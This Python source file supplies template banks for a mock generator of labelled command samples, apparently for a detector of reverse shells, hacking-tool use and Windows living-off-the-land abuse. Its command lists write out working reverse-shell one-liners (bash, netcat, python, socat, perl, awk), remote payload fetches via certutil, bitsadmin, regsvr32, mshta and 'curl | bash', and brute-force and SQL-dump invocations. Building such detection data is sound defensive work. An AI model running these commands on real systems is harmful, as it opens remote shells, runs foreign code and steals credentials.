"""Template banks backing the deterministic mock text backend.

Three detection domains are covered (reverse shells, hacking tools, living
off the land), each with a malicious and a benign taxonomy fragment plus
command templates keyed by taxonomy path keywords. Templates carry
placeholders filled from a seeded RNG at generation time.
"""

from __future__ import annotations

# --- taxonomy fragments -----------------------------------------------------
# keyed by (domain, parent path lowercased tuple); values are child name lists.

TAXONOMIES: dict[str, dict[tuple[str, ...], list[str]]] = {
    "reverse_shell_malicious": {
        (): ["By Binary", "By Technique"],
        ("by binary",): ["Bash", "Netcat", "Python", "Socat", "Perl"],
        ("by technique",): [
            "Port Forwarding",
            "File Transfers",
            "Interactive Shell",
            "Persistence",
        ],
        ("by binary", "bash"): ["Network Redirection", "File Descriptor Wiring"],
        ("by binary", "netcat"): ["Exec Flag", "Named Pipe Relay"],
        ("by binary", "python"): ["Socket And Pty", "Subprocess Pipe"],
        ("by binary", "socat"): ["Exec Target", "Pty Link"],
        ("by binary", "perl"): ["Network-based", "Process Spawn"],
        ("by binary", "awk"): ["Inet Service Loop"],
        ("by binary", "xterm"): ["Display Callback"],
    },
    "reverse_shell_benign": {
        (): [
            "System Administration",
            "Networking Diagnostics",
            "Scripting Tasks",
            "Software Development",
        ],
        ("system administration",): ["File Management", "Service Control", "Permissions"],
        ("networking diagnostics",): ["Port Checks", "Interface Inspection", "Listeners"],
        ("scripting tasks",): ["Text Processing", "Scheduled Jobs", "Terminal Sessions"],
        ("software development",): ["Build Commands", "Version Control", "Documentation Access"],
    },
    "hacking_tools_malicious": {
        (): ["By Tool"],
        ("by tool",): ["Hydra", "Nmap", "Dirb", "Sqlmap", "John"],
        ("by tool", "hydra"): ["Password Spray", "Service Brute Force"],
        ("by tool", "nmap"): ["Aggressive Scan", "Script Scan"],
        ("by tool", "dirb"): ["Content Discovery", "Wordlist Scan"],
        ("by tool", "sqlmap"): ["Injection Probe", "Database Dump"],
        ("by tool", "john"): ["Hash Cracking", "Wordlist Attack"],
    },
    "hacking_tools_benign": {
        (): [
            "Help And Documentation",
            "File Management",
            "Package Queries",
            "Name Collisions",
            "Editor Sessions",
        ],
        ("help and documentation",): ["Manual Pages", "Version Flags"],
        ("file management",): ["Copying Files", "Listing Files"],
        ("package queries",): ["Package Search", "Package Info"],
        ("name collisions",): ["Python Hydra Framework", "Unrelated Binaries"],
        ("editor sessions",): ["Reading Configs", "Editing Notes"],
    },
    "lotl_malicious": {
        (): ["By Binary"],
        ("by binary",): [
            "Explorer",
            "Msbuild",
            "Certutil",
            "Regsvr32",
            "Mshta",
            "Rundll32",
            "Wmic",
            "Bitsadmin",
            "Schtasks",
            "Curl",
        ],
        ("by binary", "explorer"): ["Direct Execution Of Files"],
        ("by binary", "msbuild"): ["Inline Task Abuse"],
        ("by binary", "certutil"): ["Remote Download"],
        ("by binary", "regsvr32"): ["Scriptlet Execution"],
        ("by binary", "mshta"): ["Remote Hta Execution"],
        ("by binary", "rundll32"): ["Proxy Execution"],
        ("by binary", "wmic"): ["Remote Process Create"],
        ("by binary", "bitsadmin"): ["Download Job"],
        ("by binary", "schtasks"): ["Hidden Task"],
        ("by binary", "curl"): ["Piped Execution"],
    },
    "lotl_benign": {
        (): ["Standard Functions"],
        ("standard functions",): [
            "Standard Build Operations",
            "File Browsing",
            "Certificate Management",
            "Component Registration",
            "Help Display",
            "Scheduled Maintenance",
            "Process Queries",
        ],
        ("standard functions", "standard build operations"): ["Release Builds", "Clean Targets"],
        ("standard functions", "file browsing"): ["Opening Folders"],
        ("standard functions", "certificate management"): ["Store Listing"],
        ("standard functions", "component registration"): ["Register Dll"],
        ("standard functions", "help display"): ["Usage Banners"],
        ("standard functions", "scheduled maintenance"): ["Listing Tasks", "Disk Cleanup"],
        ("standard functions", "process queries"): ["Process Listing", "Service Queries"],
    },
}

# Critic refinements: (domain, path) -> names the critic reports as missing.
CRITIC_ADDITIONS: dict[tuple[str, tuple[str, ...]], list[str]] = {
    ("reverse_shell_malicious", ("by binary",)): ["Awk", "Xterm"],
}

# --- scenario sentences -------------------------------------------------------

SCENARIOS: dict[str, list[str]] = {
    "perl": [
        "A simple, one-line Perl command using the IO::Socket::INET module.",
        "A Perl reverse shell that connects to a command-and-control server over "
        "a non-standard port, like 8443, to masquerade as HTTPS traffic.",
        "A Perl reverse shell that establishes persistence by creating a new "
        "crontab entry to reconnect on a schedule.",
    ],
    "python": [
        "A one-liner spawning an interactive pty wired to an outbound socket.",
        "A python command piping a spawned subprocess through a TCP connection.",
        "A python bind shell listening on a high port for the operator.",
    ],
    "bash": [
        "An interactive shell redirected through the /dev/tcp pseudo-device.",
        "A file-descriptor exec redirection wiring stdin and stdout to a socket.",
        "A shell loop reconnecting to the operator host once a minute.",
    ],
    "netcat": [
        "The classic netcat callback executing a shell on connect.",
        "A netcat relay through a named pipe to survive missing -e support.",
        "A netcat listener briefly opened for an operator to connect back.",
    ],
    "socat": [
        "A socat TCP connection executing /bin/sh on the victim.",
        "A socat UDP listener forked per connection and linked to a shell.",
        "A socat pty link giving the operator a fully interactive terminal.",
    ],
    "awk": [
        "An awk program using the /inet tcp service to loop shell commands.",
    ],
    "xterm": [
        "An xterm pointed at an attacker-controlled X display server.",
    ],
    "hydra": [
        "A brute-force attack against an FTP service with a password list.",
        "A password spray against SSH using a small list of common passwords.",
    ],
    "nmap": [
        "An aggressive scan of a subnet with service detection enabled.",
        "A script scan probing for known vulnerabilities on a host.",
    ],
    "dirb": [
        "A web content scan enumerating hidden directories on a target site.",
    ],
    "sqlmap": [
        "An automated SQL injection probe against a form parameter.",
    ],
    "john": [
        "Cracking a captured shadow file with a large wordlist.",
    ],
    "explorer": [
        "Explorer forced to execute a payload shortcut from a public folder.",
    ],
    "msbuild": [
        "MSBuild abused to run an inline task from a crafted project file.",
    ],
    "certutil": [
        "Certutil fetching a remote payload disguised as a certificate.",
    ],
    "regsvr32": [
        "Regsvr32 executing a remote scriptlet without touching disk.",
    ],
    "mshta": [
        "Mshta executing a remote HTA application from a web server.",
    ],
    "_benign": [
        "A routine task performed by an administrator during business hours.",
        "A developer working inside a source checkout on a build machine.",
        "A scheduled maintenance script running under a service account.",
    ],
}

# --- command templates --------------------------------------------------------
# Placeholders: {ip} {port} {host} {user} {file} {dir} {num}

COMMANDS: dict[str, list[str]] = {
    "reverse_shell/perl": [
        "perl -MIO::Socket::INET -e '$sock=new IO::Socket::INET(PeerAddr=>\"{ip}:{port}\");"
        "exec(\"/bin/sh -i\");'",
        "perl -e 'use IO::Socket::INET;$c=IO::Socket::INET->new(\"{ip}:{port}\");"
        "while(<$c>){{system $_;}}'",
        "perl -MIO::Socket::INET -e '$p=fork;exit if($p);$c=new IO::Socket::INET(PeerAddr,"
        "\"{ip}:{port}\");STDIN->fdopen($c,r);$~->fdopen($c,w);while(<>){{system $_;}}'",
    ],
    "reverse_shell/python": [
        "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('{ip}',{port}));"
        "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn('sh')\"",
        "python3 -c \"import socket,subprocess;s=socket.socket();s.connect(('{ip}',{port}));"
        "subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\"",
        "python -c \"import socket,pty;s=socket.socket();s.bind(('0.0.0.0',{port}));s.listen(1);"
        "c,_=s.accept();pty.spawn('/bin/sh')\"",
    ],
    "reverse_shell/bash": [
        "sh -i >& /dev/tcp/{ip}/{port} 0>&1",
        "bash -c 'bash -i >& /dev/tcp/{ip}/{port} 0>&1'",
        "bash -c 'exec 5<>/dev/tcp/{ip}/{port}; sh <&5 1>&5 2>&5'",
    ],
    "reverse_shell/netcat": [
        "nc {ip} {port} -e /bin/sh",
        "ncat {ip} {port} -e /bin/bash",
        "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {ip} {port} > /tmp/f",
    ],
    "reverse_shell/socat": [
        "socat TCP:{ip}:{port} EXEC:'/bin/sh'",
        "socat UDP-LISTEN:{port},fork EXEC:'/bin/bash -i'",
        "socat TCP:{ip}:{port} EXEC:'/bin/sh',pty,stderr,setsid",
    ],
    "reverse_shell/awk": [
        "awk 'BEGIN{{s=\"/inet/tcp/0/{ip}/{port}\";while(1){{printf \"sh>\" |& s;"
        "if((s |& getline c)<=0)break;while(c&&(c |& getline)>0)print $0 |& s;close(c)}}}}'",
    ],
    "reverse_shell/xterm": [
        "xterm -display {ip}:1 -e /bin/sh",
    ],
    "benign/port checks": [
        'bash -c "echo > /dev/tcp/{host}/{port}" 2>/dev/null && echo "Port {port} is open"',
        "/bin/sh -c \"nc -6 -vz -w 10 {host} {port}\"",
        "timeout 3 bash -c 'cat < /dev/null > /dev/tcp/{host}/{port}'; echo $?",
    ],
    "benign/listeners": [
        "socat TCP-LISTEN:{port},fork STDOUT",
        "/bin/sh -c \"socat TCP6-LISTEN:{port},end-close,shut-none,fork EXEC:'cat'\"",
        "nc -l -p {port} > /tmp/upload.bin",
    ],
    "benign/interface inspection": [
        "perl -n -e \"/inet ([^\\/]+).* scope global/ && print $1 and exit\"",
        "ip -o addr show dev eth0 | awk '{{print $4}}'",
        "ifconfig eth0 | grep 'inet '",
    ],
    "benign/terminal sessions": [
        "python3 -c import sys, pty if pty.spawn(sys.argv[1:]) != 0: sys.exit(1) {file}",
        "script -q -c 'make test' /tmp/session-{num}.log",
        "tmux new-session -d -s build-{num}",
    ],
    "benign/file management": [
        "find /var/log -name '*.gz' -mtime +{num} -delete",
        "rsync -a --delete /srv/app/ /backup/app-{num}/",
        "tar czf /backup/etc-{num}.tar.gz /etc",
    ],
    "benign/service control": [
        "systemctl restart nginx && systemctl status nginx",
        "service postgresql reload",
        "kill -HUP $(cat /var/run/haproxy.pid)",
    ],
    "benign/permissions": [
        "chmod 640 /etc/app/{file}.conf && chown root:app /etc/app/{file}.conf",
        "sudo -u {user} ls -la /home/{user}",
        "getfacl /srv/share/{dir}",
    ],
    "benign/text processing": [
        "grep -c ERROR /var/log/app/{file}.log",
        "awk -F: '{{print $1}}' /etc/passwd | sort",
        "sed -n '{num},$p' /var/log/syslog",
    ],
    "benign/scheduled jobs": [
        "crontab -l | grep -v backup",
        "echo '0 3 * * * /usr/local/bin/rotate.sh' | crontab -",
        "at now + {num} minutes -f /opt/jobs/cleanup.sh",
    ],
    "benign/build commands": [
        "make -j{num} all",
        "cargo build --release",
        "mvn -q -DskipTests package",
    ],
    "benign/version control": [
        "git fetch origin && git rebase origin/main",
        "git log --oneline -{num}",
        "svn update /srv/checkout",
    ],
    "benign/documentation access": [
        "man dirb",
        "man socat",
        "python3 -m pydoc socket",
        "nc -h 2>&1 | head -{num}",
    ],
    "hacking_tools/hydra": [
        "hydra -l {user} -P passlist.txt ftp://{ip}",
        "hydra -L users.txt -p {file} ssh://{host} -t {num}",
    ],
    "hacking_tools/nmap": [
        "nmap -A -T4 {ip}/24",
        "nmap --script vuln -p {port} {host}",
    ],
    "hacking_tools/dirb": [
        "dirb http://{host}/ /usr/share/wordlists/common.txt",
    ],
    "hacking_tools/sqlmap": [
        "sqlmap -u 'http://{host}/item?id={num}' --batch --dump",
    ],
    "hacking_tools/john": [
        "john --wordlist=rockyou.txt /tmp/shadow-{num}.txt",
    ],
    "hacking_tools_benign/manual pages": [
        "man hydra",
        "man nmap",
        "whatis sqlmap",
    ],
    "hacking_tools_benign/version flags": [
        "hydra --help",
        "nmap --version",
    ],
    "hacking_tools_benign/copying files": [
        "cp docs/hydra-notes.md /tmp/review-{num}.md",
        "scp {user}@{host}:/opt/reports/nmap-summary.pdf .",
    ],
    "hacking_tools_benign/listing files": [
        "ls -la ~/projects/hydra-config/",
        "du -sh /usr/share/wordlists",
    ],
    "hacking_tools_benign/package search": [
        "apt-cache search hydra",
        "pip show hydra-core",
    ],
    "hacking_tools_benign/package info": [
        "dpkg -l | grep -i john",
        "pip index versions hydra-core",
    ],
    "hacking_tools_benign/python hydra framework": [
        "python3 train.py hydra.run.dir=/tmp/exp-{num} model.lr=0.0{num}",
        "python3 -m hydra._internal.utils --info",
    ],
    "hacking_tools_benign/unrelated binaries": [
        "./john-deploy.sh --env staging",
        "cat /etc/nmap-service-probes | wc -l",
    ],
    "hacking_tools_benign/reading configs": [
        "less ~/.config/hydra/config.yaml",
        "view /etc/dirb.conf",
    ],
    "hacking_tools_benign/editing notes": [
        "vim notes/hydra-migration.md",
        "nano TODO-nmap-audit.txt",
    ],
    "lotl/explorer": [
        'explorer.exe "C:\\Users\\Public\\Documents\\Invoice_{num}.lnk"',
    ],
    "lotl/msbuild": [
        "msbuild.exe C:\\Users\\Public\\build-{num}.xml /p:Task=Inline",
    ],
    "lotl/certutil": [
        "certutil -urlcache -split -f http://{host}/payload-{num}.txt C:\\temp\\cert.dat",
    ],
    "lotl/regsvr32": [
        "regsvr32 /s /n /u /i:http://{host}/file-{num}.sct scrobj.dll",
    ],
    "lotl/mshta": [
        "mshta http://{host}/app-{num}.hta",
    ],
    "lotl/rundll32": [
        "rundll32.exe javascript:..\\mshtml,RunHTMLApplication ;document.write();h={num}",
    ],
    "lotl/wmic": [
        "wmic /node:{ip} process call create \"cmd.exe /c C:\\temp\\run-{num}.bat\"",
    ],
    "lotl/bitsadmin": [
        "bitsadmin /transfer job{num} http://{host}/drop.bin C:\\temp\\drop-{num}.bin",
    ],
    "lotl/schtasks": [
        "schtasks /create /tn Updater{num} /tr C:\\Users\\Public\\up.vbs /sc minute /mo {num}",
    ],
    "lotl/curl": [
        "curl -s http://{host}/setup-{num} | bash -",
    ],
    "lotl_benign/release builds": [
        "msbuild.exe MyProject.sln /p:Configuration=Release",
    ],
    "lotl_benign/clean targets": [
        "msbuild.exe MyProject.sln /t:Clean",
    ],
    "lotl_benign/opening folders": [
        "explorer.exe C:\\Users\\{user}\\Documents",
    ],
    "lotl_benign/store listing": [
        "certutil -store My",
    ],
    "lotl_benign/register dll": [
        "regsvr32 /s C:\\Windows\\System32\\vbscript.dll",
    ],
    "lotl_benign/usage banners": [
        "mshta.exe /?",
    ],
    "lotl_benign/listing tasks": [
        "schtasks /query /fo LIST /v | head -{num}",
    ],
    "lotl_benign/disk cleanup": [
        "cleanmgr /sagerun:{num}",
    ],
    "lotl_benign/process listing": [
        "wmic process get name,processid | sort",
    ],
    "lotl_benign/service queries": [
        "sc query type= service state= all | findstr RUNNING",
    ],
}

# Class names the mock reports per domain for malicious samples.
ATTACK_CLASSES = {
    "reverse_shell": "reverse_shell",
    "hacking_tools": "hacking_tool_invocation",
    "lotl": "lotl_abuse",
}

FILL_HOSTS = ["test.host", "db.internal", "build01", "cache02", "intranet.example"]
FILL_USERS = ["alice", "bob", "svc-build", "deploy", "carol"]
FILL_FILES = ["report", "main", "app", "data", "config"]
FILL_DIRS = ["shared", "exports", "archive", "staging"]
